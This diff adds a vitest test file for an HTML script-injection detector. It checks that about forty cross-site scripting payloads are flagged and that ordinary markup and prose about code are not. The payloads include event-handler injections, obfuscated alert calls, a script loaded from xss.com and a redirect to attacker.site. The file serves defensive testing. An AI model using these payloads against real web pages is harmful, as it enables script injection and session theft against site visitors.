@@ -1,0 +1,80 @@
+import { expect, it } from 'vitest'
+import { split } from '../testing/attempt.ts'
+import { html } from './index.ts'
+
+it('finds what runs script, in each context that a page has', () => {
+  const attacks = [
+    `<body onload=alert('test1')>`,
+    `<IMG SRC=j&#X41vascript:alert('test')>`,
+    `"onwheel=ead(111)`,
+    `sometext<svg onload=alert(document.domain)>?mimeType=text/html`,
+    `"));if(!self.x)self.x=!alert(document.domain)}catch(e){}//`,
+    `confirm.call(null,1)`,
+    `javascript:setInterval('ale'+'rt(document.domain)')`,
+    `alert.call( , "XSS");`,
+    `(alert)(1)`,
+    `<svg/onload=alert(=RND=)//`,
+    `"onClick="(prompt)(1)`,
+    `"'>alert(1)</script><script/1='"`,
+    `'"//Onx=""//onfocus=prompt(1)>'`,
+    `"Onx=() onMouSeoVer=prompt(1)>`,
+    '"OnCliCk="(prompt`1`)',
+    `alert.apply(null, [1])`,
+    `\\"autof<x>ocus o<x>nfocus=alert<x>(1)//`,
+    `"><p only=1337 onmouseenter=window.location.href=//attacker.site>`,
+    `"><svg onmouseover="confirm&#0000000040document.domain)`,
+    '<<scr\0ipt/src=http://xss.com/xss.js></script',
+    `\\'-alert(1)//`,
+    `<script>alert(1);</script>`,
+    `';alert(1)//`,
+    `'-alert(1)-'`,
+    `top["al"+"ert"](1)`,
+    `[]['constructor']['constructor']('alert(1)')()`,
+    `<a href="jav&#9;ascript:alert(1)">x`,
+    `<iframe srcdoc="&lt;script>alert(1)">`,
+    `<math><a xlink:href=javascript:alert(1)>`,
+    '`-alert(1)-`',
+    `';location='javascript:alert(1)'//`,
+    `<details open ontoggle=alert(1)>`,
+    `x onerror=alert(1) `,
+    `<div style="width:expression(alert(1))">`,
+    `data:text/html;base64,PHNjcmlwdD4=`,
+    `<script>aaa</script>`,
+    `"-top['al\\x65rt'](1)-"`,
+    `\\u0061lert(1)`,
+    `</script><svg onload=1>`,
+    `onerror=alert;throw 1`,
+    '<x ng-app>{{1}}<p ng-click=$event.view.alert(1)>',
+  ]
+  expect(split(html, attacks).passed).toEqual([])
+})
+
+it('passes markup that does nothing, and talk of code', () => {
+  const texts = [
+    `use <b> for bold`,
+    `a < b && c > d`,
+    `I <3 you`,
+    `List<String> x = new ArrayList<>()`,
+    `Bob <bob@example.com>`,
+    `The <script> tag is (often) used`,
+    'Use `<script>` tags and `<b>`',
+    `JavaScript: Basics of JavaScript Language`,
+    `JavaScript: a (short) intro`,
+    `don't worry (really)`,
+    `O'Brien (CEO)`,
+    `<a href="https://example.com" title="x">link</a>`,
+    `<img src="https://x.de/a.png" alt="on sale">`,
+    `if (a < b) { return foo(x) }`,
+    `const x = document.getElementById('a')`,
+    `setTimeout(() => save(), 100)`,
+    `h2<h1`,
+    `alert(s) received`,
+    `He said "hello" (twice)`,
+    `it's 5" (inch)`,
+    `the "Save" button has onclick=save()`,
+    `<p class="x">text</p>`,
+    `data: text/html is a MIME type`,
+    `x='a' + foo(b)`,
+  ]
+  expect(split(html, texts).found).toEqual([])
+})
